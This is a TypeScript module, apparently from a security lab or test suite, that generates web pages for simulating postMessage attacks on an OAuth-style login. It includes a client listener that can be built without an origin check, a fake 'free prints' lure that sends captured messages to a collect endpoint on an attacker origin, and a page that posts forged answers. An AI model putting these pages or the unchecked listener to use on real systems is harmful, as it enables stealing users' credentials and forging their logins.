/** Pages with a script that posts a message, or waits for one. What their scripts do is modelled; what stands in them is real. */
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import { CLIENT_ORIGIN, ISSUER } from "@/lib/cast/cast";
import { documentOf, html } from "@/lib/parties/html";

const script = (text: string) => ({ html: `<script>\n${text}\n</script>` });
const literal = (value: unknown): string => JSON.stringify(value).replace(/</g, "\\u003c");

const CHECK = `  if (e.origin !== "${ISSUER}") return;\n`;

/** The client's page. It opens the server in a window of its own, waits for a message, and hands that to its own server. */
export const listenerPage = (checksSender: boolean): string =>
	documentOf(
		"Photo Print",
		html`<main>
<h1>Photo Print</h1>
<p>Print the photos that you keep online.</p>
<p><button type="button">Connect my photos</button></p>
</main>
${script(`document.querySelector("button").onclick = () => open("/connect");
addEventListener("message", (e) => {
${checksSender ? CHECK : ""}  location = "/cb?" + new URLSearchParams(e.data);
});`)}`,
	);

const offer = (text: string): string =>
	documentOf(
		"Free prints",
		html`<main>
<h1>Twenty prints for free</h1>
<p>This week only, at Photo Print.</p>
<p><button type="button">Get them</button></p>
</main>
${script(text)}`,
	);

/** Opens the server like the client would, and sends home whatever is posted to it. */
export const readerPage = (url: string): string =>
	offer(`document.querySelector("button").onclick = () => open(${literal(url)});
addEventListener("message", (e) => fetch("/collect?" + new URLSearchParams(e.data)));`);

/** Opens the client's page, and posts an answer to it. */
export const forgerPage = (answer: Readonly<Record<string, string>>): string =>
	offer(`document.querySelector("button").onclick = async () => {
  const other = open("${CLIENT_ORIGIN}/");
  await new Promise((ready) => setTimeout(ready, 2000));
  other.postMessage(${literal(answer)}, "${CLIENT_ORIGIN}");
};`);

export const COLLECT = `${EVIL_ORIGIN}/collect`;
